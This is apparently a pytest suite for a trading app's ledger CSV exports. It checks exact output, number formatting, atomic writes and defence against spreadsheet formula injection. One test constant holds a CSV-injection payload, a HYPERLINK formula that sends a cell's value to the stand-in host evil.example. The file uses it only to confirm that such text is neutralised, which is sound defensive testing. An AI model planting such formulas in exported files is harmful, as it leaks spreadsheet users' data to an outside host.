"""Ledger CSV exports: exact content, typed cells, formula-injection safety, atomic writes."""

from __future__ import annotations

import csv
import io
import os
from collections.abc import Iterator
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.fixtures.ledger_view import changed, sample_view
from workstation.domain.instruments import InstrumentKind
from workstation.domain.occ import OptionRight
from workstation.domain.pnl import LedgerView
from workstation.domain.transactions import PositionEffect, Transaction, TransactionKind
from workstation.reports.ledger import (
    CLOSED_TRADE_HEADER,
    PNL_GROUPINGS,
    TRANSACTION_HEADER,
    csv_cell,
    safe_text,
    write_closed_trades_csv,
    write_open_lots_csv,
    write_pnl_by_csv,
    write_transactions_csv,
)

D = Decimal
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _text(write, *args) -> str:  # type: ignore[no-untyped-def]
    out = io.StringIO()
    write(*args, out)
    return out.getvalue()


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _put_sale(**changes: object) -> Transaction:
    row = Transaction(
        broker="tastytrade",
        account="5WT00001",
        key="tt:123456",
        kind=TransactionKind.TRADE,
        executed_at=datetime(2026, 3, 6, 19, 31, 5, tzinfo=UTC),
        sub_type="Sell to Open",
        instrument=InstrumentKind.EQUITY_OPTION,
        symbol="SPY   260320P00560000",
        underlying="SPY",
        expiry=date(2026, 3, 20),
        strike=D("560"),
        right=OptionRight.PUT,
        multiplier=D(100),
        quantity=D(-1),
        price=D("1.25"),
        value=D("125.00"),
        commission=D("1.00"),
        clearing_fee=D("0.10"),
        regulatory_fee=D("0.03"),
        effect=PositionEffect.OPEN,
        order_id="987",
        description="Sold 1 SPY 03/20/26 Put 560.00 @ 1.25",
    )
    return changed(row, **changes)  # type: ignore[arg-type]


# ---------------------------------------------------------------- exact content


def test_closed_trades_csv_is_exact_for_the_sample_view() -> None:
    text = _text(write_closed_trades_csv, sample_view())
    key = "fp:{:032x}#1".format
    assert text.split("\r\n") == [
        ",".join(CLOSED_TRADE_HEADER),
        f"{key(0)},5WT00001,SPY,SPY 560/555 bull put credit spread 3/20,bull put credit spread,"
        f"2026-02-18,2026-03-06,16,212.40,215.00,2.60,18.0,{key(0)},1,212.40,,'-1 SPY leg",
        f"{key(1)},5WT00001,QQQ,QQQ 430/435/500/505 iron condor 4/17,iron condor,"
        "2026-03-16,2026-04-09,24,-331.20,-326.00,5.20,-2.0,,0,-331.20,,'-1 QQQ leg",
        f"{key(2)},5WT00001,AAPL,AAPL 200 short put 5/15,short put,"
        "2026-04-21,2026-05-15,24,148.88,150.00,1.12,24.0,,0,148.88,,'-1 AAPL leg",
        f"{key(3)},5WT00001,IWM,IWM 190/235 short strangle 7/17,short strangle,"
        "2026-06-02,2026-06-30,28,405.76,408.00,2.24,3.0,,0,405.76,,'-1 IWM leg",
        f"{key(4)},5WT00001,SPX,SPX 6200/6250/6900/6950 iron condor 9/18,iron condor,"
        "2026-08-12,2026-09-02,21,-1210.50,-1202.00,8.50,-4.0,,0,-1210.50,,'-1 SPX leg",
        f"{key(5)},5WT00001,TSLA,TSLA 400 long call 10/16,long call,"
        "2026-09-10,2026-10-01,21,860.00,861.12,1.12,45.0,,0,860.00,earnings,'-1 TSLA leg",
        "",
    ]


def test_closed_trades_leave_out_open_trades_and_sum_to_the_summary() -> None:
    view = sample_view()
    rows = _rows(_text(write_closed_trades_csv, view))[1:]
    net = sum(D(row[CLOSED_TRADE_HEADER.index("realized_net")]) for row in rows)
    assert len(rows) == view.summary.closed_trades == 6
    assert net == view.summary.realized
    assert {row[2] for row in rows}.isdisjoint({"NVDA"})


def test_open_lots_csv_names_the_owning_trade_and_leaves_missing_marks_empty() -> None:
    view = sample_view()
    lot = changed(view.open_lots[1], mark=None, unrealized=None)
    view = changed(view, open_lots=(view.open_lots[0], lot))
    assert _text(write_open_lots_csv, view).split("\r\n") == [
        "account,underlying,strategy,symbol,opened_at,quantity,price,cost,mark,unrealized,open_key",
        "5WT00001,SPY,SPY 700/705 bear call credit spread 12/18,SPY leg,"
        f"2026-11-02T10:00:00-05:00,-1,1.20,120,0.24,96.00,fp:{6:032x}#1",
        "5WT00001,NVDA,NVDA 190 call calendar 12/18-1/15,NVDA leg,"
        f"2026-11-09T10:00:00-05:00,-1,1.20,120,,,fp:{7:032x}#1",
        "",
    ]


@pytest.mark.parametrize(
    ("by", "expected"),
    [
        ("day", ["period_start,net,gross,fees,closes", "2026-03-06,212.40,215.00,2.60,1"]),
        ("week", ["period_start,net,gross,fees,closes", "2026-03-02,212.40,215.00,2.60,1"]),
        ("month", ["period_start,net,gross,fees,closes", "2026-03-01,212.40,215.00,2.60,1"]),
        ("year", ["period_start,net,gross,fees,closes", "2026-01-01,85.34,106.12,25.62,6"]),
        (
            "underlying",
            [
                "underlying,realized,unrealized,total,fees,trades,winners,losers,win_rate",
                "AAPL,148.88,0,148.88,1.12,1,1,0,1.0",
            ],
        ),
        (
            "strategy",
            [
                "strategy,realized,unrealized,total,fees,trades,winners,losers,win_rate",
                "bear call credit spread,0,96.00,96.00,2.60,1,0,0,",
            ],
        ),
        (
            "delta",
            [
                "entry_delta_bucket,realized,unrealized,total,fees,trades,winners,losers,win_rate",
                "'+5 to +50,1221.28,-44.00,1177.28,7.08,4,3,0,1.0",
            ],
        ),
    ],
)
def test_pnl_by_csv_starts_with_header_and_first_bucket(by: str, expected: list[str]) -> None:
    lines = _text(write_pnl_by_csv, sample_view(), by).split("\r\n")
    assert lines[:2] == expected


def test_pnl_by_strategy_sums_to_the_summary_and_counts_every_group() -> None:
    view = sample_view()
    rows = _rows(_text(write_pnl_by_csv, view, "strategy"))[1:]
    assert len(rows) == len(view.by_strategy) == 7
    assert sum(D(row[1]) for row in rows) == view.summary.realized
    assert ["iron condor", "-1541.70", "0", "-1541.70", "13.70", "2", "0", "2", "0.0"] in rows
    delta = _rows(_text(write_pnl_by_csv, view, "delta"))
    assert delta[2][-1] == "0.3333"  # 1 winner of 3 decided, rounded to 4 places


def test_pnl_by_refuses_an_unknown_grouping() -> None:
    with pytest.raises(ValueError, match="quarter"):
        write_pnl_by_csv(sample_view(), "quarter", io.StringIO())  # type: ignore[arg-type]
    assert PNL_GROUPINGS == ("day", "week", "month", "year", "underlying", "strategy", "delta")


def test_transactions_csv_writes_every_field_with_signs_and_fees() -> None:
    lines = _text(write_transactions_csv, [_put_sale()]).split("\r\n")
    assert lines[0] == ",".join(TRANSACTION_HEADER)
    assert lines[1] == (
        "2026-03-06,2026-03-06T14:31:05-05:00,tastytrade,5WT00001,trade,Sell to Open,"
        "equity_option,SPY   260320P00560000,SPY,2026-03-20,560,P,100,,-1,1.25,125.00,"
        "1.00,0.10,0.03,0,1.13,123.87,open,987,Sold 1 SPY 03/20/26 Put 560.00 @ 1.25,USD,csv,"
        "0,tt:123456,"
    )
    assert lines[2:] == [""]


# ---------------------------------------------------------------- formula injection


def test_injection_prone_text_is_quoted_but_negative_numbers_stay_numbers() -> None:
    row = _put_sale(description=HYPERLINK, value=D("-12.50"), quantity=D(1))
    cells = dict(
        zip(TRANSACTION_HEADER, _rows(_text(write_transactions_csv, [row]))[1], strict=True)
    )
    assert cells["description"] == "'" + HYPERLINK
    assert cells["value"] == "-12.50"
    assert cells["net_value"] == "-13.63"
    assert D(cells["value"]) == D("-12.50")


def test_a_plus_tag_and_a_formula_name_are_quoted_in_closed_trades() -> None:
    view = sample_view()
    trade = changed(view.trades[1], tags=("+1", "@risk"), name="=SUM(A1:A9)")
    view = changed(view, trades=(view.trades[0], trade, *view.trades[2:]))
    row = dict(
        zip(CLOSED_TRADE_HEADER, _rows(_text(write_closed_trades_csv, view))[2], strict=True)
    )
    assert row["tags"] == "'+1; @risk"
    assert row["strategy"] == "'=SUM(A1:A9)"
    assert row["realized_net"] == "-331.20"
    assert row["entry_delta"] == "-2.0"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_trigger_character_is_neutralised(start: str) -> None:
    assert safe_text(f"{start}cmd") == f"'{start}cmd"


def test_safe_text_leaves_ordinary_text_alone() -> None:
    assert safe_text("SPY   260320P00560000") == "SPY   260320P00560000"
    assert safe_text("iron condor") == "iron condor"
    assert safe_text("") == ""


@given(st.text(max_size=40))
def test_a_text_cell_never_starts_a_formula_and_keeps_its_content(text: str) -> None:
    cell = csv_cell(text)
    risky = text.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert cell == ("'" + text if risky else text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


@given(st.decimals(allow_nan=False, allow_infinity=False, places=4))
def test_a_decimal_cell_is_an_exact_plain_number(amount: Decimal) -> None:
    cell = csv_cell(amount)
    assert D(cell) == amount
    assert "E" not in cell
    assert not cell.startswith("'")


def test_cells_by_type() -> None:
    assert csv_cell(None) == ""
    assert csv_cell(D("-0.00")) == "0.00"
    assert csv_cell(D("1E+2")) == "100"
    assert csv_cell(7) == "7"
    assert csv_cell(0.666666) == "0.6667"
    assert csv_cell(date(2026, 3, 6)) == "2026-03-06"
    assert csv_cell(datetime(2026, 7, 1, 13, 30, tzinfo=UTC)) == "2026-07-01T09:30:00-04:00"


# ---------------------------------------------------------------- paths and atomicity


def test_a_path_gets_utf8_with_bom_and_crlf(tmp_path: Path) -> None:
    path = tmp_path / "closed.csv"
    assert write_closed_trades_csv(sample_view(), path) == 6
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbftrade_id,")
    assert raw.count(b"\r\n") == 7
    assert raw.decode("utf-8-sig") == _text(write_closed_trades_csv, sample_view())


def test_a_str_path_works_too(tmp_path: Path) -> None:
    path = tmp_path / "lots.csv"
    assert write_open_lots_csv(sample_view(), str(path)) == 2
    assert path.read_text(encoding="utf-8-sig").startswith("account,underlying,")


def _failing_rows() -> Iterator[Transaction]:
    yield _put_sale()
    raise RuntimeError("ledger went away mid-export")


def test_a_failure_while_writing_leaves_the_old_file_and_no_temp_file(tmp_path: Path) -> None:
    path = tmp_path / "transactions.csv"
    path.write_text("old export\n", encoding="utf-8")
    with pytest.raises(RuntimeError, match="mid-export"):
        write_transactions_csv(_failing_rows(), path)
    assert path.read_text(encoding="utf-8") == "old export\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["transactions.csv"]


def test_a_failed_rename_leaves_the_old_file_and_no_temp_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "closed.csv"
    path.write_text("old export\n", encoding="utf-8")

    def refuse(source: str | os.PathLike[str], target: str | os.PathLike[str]) -> None:
        raise OSError("disk full")

    monkeypatch.setattr(os, "replace", refuse)
    with pytest.raises(OSError, match="disk full"):
        write_closed_trades_csv(sample_view(), path)
    assert path.read_text(encoding="utf-8") == "old export\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["closed.csv"]


def test_an_empty_view_writes_headers_only(tmp_path: Path) -> None:
    view: LedgerView = changed(sample_view(), trades=(), open_lots=(), periods={}, by_delta=())
    assert write_closed_trades_csv(view, tmp_path / "c.csv") == 0
    assert write_pnl_by_csv(view, "month", tmp_path / "m.csv") == 0
    assert write_pnl_by_csv(view, "delta", tmp_path / "d.csv") == 0
    assert (
        tmp_path / "m.csv"
    ).read_bytes() == b"\xef\xbb\xbfperiod_start,net,gross,fees,closes\r\n"
